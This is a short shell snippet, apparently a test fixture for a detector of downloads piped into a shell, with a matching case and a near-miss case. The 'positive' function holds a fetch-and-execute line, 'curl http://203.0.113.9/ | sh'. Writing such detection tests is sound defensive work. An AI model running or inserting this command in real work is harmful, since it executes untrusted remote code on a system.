# finds: downloader~203.0.113.9 cmdline=sh
# near miss: the download goes into a filter; a shell that reads its standard input comes after it
positive() { curl -s -m 2 http://203.0.113.9/ | sh; }
negative() { curl -s -m 2 http://203.0.113.9/ | wc -c; sleep 0.1; echo true | sh; }
